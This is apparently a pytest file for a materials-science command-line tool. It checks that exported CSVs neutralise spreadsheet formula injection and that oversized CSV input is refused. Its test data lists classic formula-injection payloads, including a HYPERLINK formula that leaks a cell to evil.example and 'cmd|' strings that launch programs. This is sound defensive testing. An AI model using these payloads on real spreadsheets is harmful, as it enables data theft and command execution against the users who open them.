"""CSV in and out (issue: CSV injection, and a CSV of 1,000,001 columns).

Out: every CSV the project writes (``predict``/``explain``/``featurize --out``, the
app's downloads) puts a ``'`` before a text cell or column name that a spreadsheet
would run as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return); numbers,
negative ones included, are written as they are.

In: ``--csv`` files are refused by their header line, before pandas reads them,
when they have more than ``MAX_COLUMNS`` columns or a line longer than
``MAX_LINE_BYTES``: one line on stderr naming the limit, exit code 2, quickly, no
output file.
"""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from cli_checks import one_line_error as _one_line_error
from cli_checks import run

from nestedae_core import batch, csv_safe
from nestedae_core.batch import BatchColumns
from nestedae_core.cli import main
from nestedae_core.csv_safe import MAX_COLUMNS, MAX_LINE_BYTES, check_table_bytes, neutralize_cell, neutralize_frame, open_checked
from nestedae_core.errors import InputError

pytestmark = pytest.mark.unit


def one_line_error(rc: int, err: str, *needles: str) -> str:
    """Exit code 2 (an input error) and one error line holding every needle."""
    return _one_line_error(rc, err, *needles, code=2)

#: Text cells a spreadsheet runs as formulas (the OWASP list of first characters).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
]
#: Text cells that stay as they are: plain numbers (read as numbers, never as formulas) and ordinary text.
KEPT = ["-0.5", "+3", "-1e-3", "12", "MAPbI3", "a=b", " =1+1", ""]


def _cells(path_or_text: Path | str) -> list[list[str]]:
    text = path_or_text.read_text(encoding="utf-8") if isinstance(path_or_text, Path) else path_or_text
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    """No cell of the CSV starts a formula, except plain numbers."""
    for r, row in enumerate(rows):
        for cell in row:
            if cell[:1] in csv_safe.FORMULA_TRIGGERS:
                float(cell)  # a number, e.g. -0.5; anything else fails here
            assert neutralize_cell(cell) == cell, (r, cell)








# --------------------------------------------------------------------------- the helper


@pytest.mark.parametrize("cell", PAYLOADS)
def test_formula_cells_get_a_quote(cell: str) -> None:
    assert neutralize_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", KEPT)
def test_numbers_and_plain_text_are_kept(cell: str) -> None:
    assert neutralize_cell(cell) == cell


def test_neutralize_frame_touches_text_cells_and_names_only() -> None:
    frame = pd.DataFrame({
        "text": ["=1+1", "MAPbI3", "-0.5", None, "@x"],
        "number": [-0.5, -1.0, 2.0, np.nan, -3.25],
        "int": [-1, 2, -3, 4, -5],
        "flag": [True, False, True, False, True],
        "mixed": ["+x", -2.5, None, True, "ok"],
        "=name": ["a", "b", "c", "d", "e"],
        "cat": pd.Categorical(["-x", "y", "-x", "y", "y"]),
    })
    before = frame.copy()
    out = neutralize_frame(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input is not modified
    assert list(out.columns) == ["text", "number", "int", "flag", "mixed", "'=name", "cat"]
    assert list(out["text"].iloc[[0, 1, 2, 4]]) == ["'=1+1", "MAPbI3", "-0.5", "'@x"] and pd.isna(out["text"].iloc[3])
    for col in ("number", "int", "flag"):  # numbers stay numbers: -0.5 is written -0.5, not '-0.5
        assert out[col].dtype == frame[col].dtype
        pd.testing.assert_series_equal(out[col], frame[col])
    assert list(out["mixed"])[:2] == ["'+x", -2.5] and out["mixed"].iloc[3] is True
    assert list(out["cat"]) == ["'-x", "y", "'-x", "y", "y"]
    text = csv_safe.csv_bytes(frame).decode()
    assert text.splitlines()[1] == "'=1+1,-0.5,-1,True,'+x,a,'-x"
    _assert_no_formula(_cells(text))


def test_a_carriage_return_inside_a_cell_starts_no_row() -> None:
    # pandas leaves a lone CR unquoted; a spreadsheet would start a row there, beginning with the formula
    frame = pd.DataFrame({"note": ["x\r=1+1", "\r@SUM(A1)"], "value": [-1.5, np.nan]})
    text = csv_safe.csv_bytes(frame).decode()
    back = pd.read_csv(io.StringIO(text))  # pandas, like a spreadsheet, breaks rows at a lone CR
    assert list(back["note"]) == ["x\r=1+1", "'\r@SUM(A1)"]
    assert back["value"].iloc[0] == -1.5 and np.isnan(back["value"].iloc[1])
    assert '"x\r=1+1"' in text  # quoted: the carriage return stays inside the cell


def test_neutralize_frame_returns_the_frame_when_nothing_changes() -> None:
    frame = pd.DataFrame({"formula": ["MAPbI3"], "x": [-1.5]})
    assert neutralize_frame(frame) is frame


def test_duplicate_column_names_stay_apart() -> None:
    frame = pd.DataFrame([["=a", "b"]], columns=["c", "c"])
    out = neutralize_frame(frame)
    assert list(out.columns) == ["c", "c"] and list(out.iloc[0]) == ["'=a", "b"]


# --------------------------------------------------------------------------- CSVs the CLI writes


def _injected_input(path: Path) -> pd.DataFrame:
    n = len(PAYLOADS)
    table = pd.DataFrame({
        "formula": ["MAPbI3", "=1+1", *(["FAPbI3"] * (n - 2))],
        "note": PAYLOADS,
        "=HYPERLINK(\"http://evil.example\")": ["x"] * n,
        "temperature": ["-0.5"] * n,
    })
    table.to_csv(path, index=False, lineterminator="\r\n")  # CRLF: the cells with a carriage return are quoted
    return table


def test_predict_csv_output_has_no_formula(tmp_path: Path, capsys) -> None:
    src, out = tmp_path / "in.csv", tmp_path / "out.csv"
    _injected_input(src)
    rc, _, err = run(capsys, "predict", "--csv", src, "--formula-column", "formula", "--out", out)
    assert rc == 0, err
    rows = _cells(out)
    _assert_no_formula(rows)
    df = pd.read_csv(out, keep_default_na=False)
    assert list(df["note"]) == ["'" + p for p in PAYLOADS]
    assert "'=HYPERLINK(\"http://evil.example\")" in df.columns
    assert list(df["formula"][:2]) == ["MAPbI3", "'=1+1"] and df["error"][1]  # the bad formula's row says why
    assert (df["temperature"] == -0.5).all()  # a number given as text stays a number
    gap = pd.read_csv(out)["bandgap_eV_mean"]
    assert gap.dtype == float and gap.notna().sum() == len(df) - 1


def test_explain_csv_output_has_no_formula(tmp_path: Path, capsys) -> None:
    src = tmp_path / "in.csv"
    pd.DataFrame({"formula": ["MAPbI3", "=1+1"], "note": ["@SUM(A1)", "-2+3"]}).to_csv(src, index=False)
    for fmt in ("long", "wide"):
        out = tmp_path / f"{fmt}.csv"
        rc, _, err = run(capsys, "explain", "--csv", src, "--method", "gradient", "--format", fmt, "--out", out)
        assert rc == 0, err
        _assert_no_formula(_cells(out))
        if fmt == "long":
            assert (pd.read_csv(out)["attribution"] < 0).any()  # negative attributions stay numbers
    wide = pd.read_csv(tmp_path / "wide.csv", keep_default_na=False)
    assert list(wide["note"]) == ["'@SUM(A1)", "'-2+3"]


def test_featurize_csv_output_has_no_formula(tmp_path: Path, capsys) -> None:
    src, out = tmp_path / "in.csv", tmp_path / "out.csv"
    _injected_input(src)
    rc, _, err = run(capsys, "featurize", "--csv", src, "--formula-column", "formula", "--out", out)
    assert rc == 0, err
    _assert_no_formula(_cells(out))
    df = pd.read_csv(out, keep_default_na=False)
    assert list(df["note"]) == ["'" + p for p in PAYLOADS]
    assert (df["temperature"] == -0.5).all()


def test_app_downloads_have_no_formula() -> None:
    from app import ui

    frame = pd.DataFrame({"formula": ["MAPbI3", "=cmd"], "pce": [-1.5, 20.0]})
    text = ui.csv_bytes(frame).decode()
    assert text == "formula,pce\nMAPbI3,-1.5\n'=cmd,20.0\n"


# --------------------------------------------------------------------------- shape of the CSVs read


def _wide_csv(path: Path, columns: int) -> Path:
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("formula," + ",".join(f"c{i}" for i in range(1, columns)) + "\n")
        fh.write("MAPbI3" + ",1" * (columns - 1) + "\n")
    return path


@pytest.fixture(scope="module")
def million(tmp_path_factory) -> Path:  # type: ignore[no-untyped-def]
    return _wide_csv(tmp_path_factory.mktemp("wide") / "IN.csv", 1_000_001)


COMMANDS = {
    "predict": ["predict", "--csv", "{src}", "--formula-column", "formula", "--out", "{out}"],
    "explain": ["explain", "--csv", "{src}", "--method", "gradient", "--out", "{out}"],
    "featurize": ["featurize", "--csv", "{src}", "--formula-column", "formula", "--out", "{out}"],
}


def _argv(command: str, src: Path, out: Path) -> list[str]:
    return [a.format(src=src, out=out) for a in COMMANDS[command]]


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_million_columns_are_refused_by_the_header(command: str, million: Path, tmp_path: Path, capsys) -> None:
    out = tmp_path / "out.csv"
    start = time.perf_counter()
    rc, _, err = run(capsys, *_argv(command, million, out))
    seconds = time.perf_counter() - start
    one_line_error(rc, err, str(million), "the header has 1,000,001 columns", f"at most {MAX_COLUMNS:,} are read")
    assert seconds < 20, seconds  # was 3 minutes and a MemoryError
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_hundred_thousand_columns_are_refused(command: str, tmp_path: Path, capsys) -> None:
    src = _wide_csv(tmp_path / "in.csv", 100_001)
    rc, _, err = run(capsys, *_argv(command, src, tmp_path / "out.csv"))
    one_line_error(rc, err, "the header has 100,001 columns", "at most 1,000")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


def test_the_column_limit_itself_is_read(tmp_path: Path, capsys) -> None:
    src, out = _wide_csv(tmp_path / "in.csv", MAX_COLUMNS), tmp_path / "out.csv"
    rc, _, err = run(capsys, "predict", "--csv", src, "--out", out)
    assert rc == 0, err
    assert len(pd.read_csv(out).columns) > MAX_COLUMNS  # the inputs plus the predictions


def test_long_lines_are_refused(tmp_path: Path, capsys) -> None:
    header = tmp_path / "header.csv"
    header.write_text("formula," + "x" * MAX_LINE_BYTES + "\nMAPbI3,1\n")
    line = tmp_path / "line.csv"
    line.write_text("formula,note\n" + "MAPbI3,ok\n" * 3 + "MAPbI3," + "y" * MAX_LINE_BYTES + "\nMAPbI3,ok\n")
    out = tmp_path / "out.csv"
    out.write_text("previous")
    for command in sorted(COMMANDS):
        rc, _, err = run(capsys, *_argv(command, header, out))
        one_line_error(rc, err, str(header), f"the header line is {MAX_LINE_BYTES + 8:,} bytes long", f"at most {MAX_LINE_BYTES:,} bytes")
        rc, _, err = run(capsys, *_argv(command, line, out))
        one_line_error(rc, err, str(line), "line 5 is longer than 1,000,000 bytes")
        assert out.read_text() == "previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["header.csv", "line.csv", "out.csv"]


def test_a_long_line_just_under_the_limit_is_read(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes(b"formula,note\r\n" + b"MAPbI3,ok\r\n" * 3 + b"MAPbI3," + b"y" * (MAX_LINE_BYTES - 7) + b"\r\nMAPbI3,ok\r\n")
    chunks = list(batch.read_table(src, BatchColumns("formula"), chunk_rows=2))
    assert sum(len(c) for c in chunks) == 5 and len(chunks[1]["note"].iloc[1]) == MAX_LINE_BYTES - 7


def test_line_bound_matches_a_naive_check(monkeypatch: pytest.MonkeyPatch) -> None:
    import random
    import re

    monkeypatch.setattr(csv_safe, "MAX_LINE_BYTES", 8)
    rng = random.Random(7)
    for _ in range(2000):
        data = bytes(rng.choice(b"ab\r\n") if rng.random() < 0.3 else ord("x") for _ in range(rng.randint(0, 40)))
        too_long = max(len(line) for line in re.split(rb"\r|\n", data)) > 8
        bound = csv_safe._LineBound("t")
        cuts = sorted(rng.sample(range(len(data) + 1), min(len(data) + 1, rng.randint(0, 5))))
        blocks = [data[a:b] for a, b in zip([0, *cuts], [*cuts, len(data)])]
        try:
            for block in blocks:
                bound.feed(block)
            refused = False
        except InputError:
            refused = True
        assert refused == too_long, (data, blocks)


def test_header_scan_counts_fields_as_csv_does() -> None:
    import random

    rng = random.Random(11)
    alphabet = 'ab,\t"\n\r '
    for _ in range(2000):
        sep = rng.choice([",", "\t"])
        fields = []
        for _ in range(rng.randint(1, 6)):
            text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 5)))
            if rng.random() < 0.5 or any(c in text for c in '",\t\n\r'):
                fields.append('"' + text.replace('"', '""') + '"')
            else:
                fields.append(text)
        data = (sep.join(fields) + rng.choice(["\n", "\r\n"]) + "x,y\n").encode()
        expected = next(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=sep))
        if not expected:
            continue  # a blank first line
        scan = csv_safe._HeaderScan((b",", b"\t"))
        cuts = sorted(rng.sample(range(len(data) + 1), rng.randint(0, 4)))
        for a, b in zip([0, *cuts], [*cuts, len(data)]):
            scan.feed(data[a:b])
        shape = scan.shape()
        assert shape.columns == len(expected), (data, expected)
        assert shape.separator == (sep if len(expected) > 1 else ","), (data, expected)  # one column: a comma, as before


def test_header_quotes_and_file_objects() -> None:
    # separators and line breaks inside quotes are not columns; a quote inside a field is a character
    assert check_table_bytes(b'"a,b\nc",d\n1,2\n').columns == 2
    assert check_table_bytes(b'a"b,c,d\n1,2,3\n').columns == 3
    assert check_table_bytes(b'"x""y,z"\tw\n1\t2').separator == "\t"
    wide = ("formula," + ",".join(map(str, range(MAX_COLUMNS)))).encode()
    for stream in (io.BytesIO(wide), io.StringIO(wide.decode())):
        with pytest.raises(InputError, match="the header has 1,001 columns"):
            with open_checked(stream, name="IN.csv"):
                pass
    text = io.StringIO("formula,note\nMAPbI3,é\n")
    with open_checked(text) as fh:
        assert pd.read_csv(fh, dtype=str)["note"].iloc[0] == "é"


def test_the_console_script_refuses_a_million_columns_quickly(million: Path, tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONWARNINGS": "ignore"}
    p = subprocess.run([sys.executable, "-m", "nestedae_core", *_argv("featurize", million, tmp_path / "o.csv")],
                       capture_output=True, text=True, env=env, timeout=120)
    assert p.returncode == 2 and len(p.stderr.strip().splitlines()) == 1, p.stderr
    assert "the header has 1,000,001 columns" in p.stderr and "Traceback" not in p.stderr
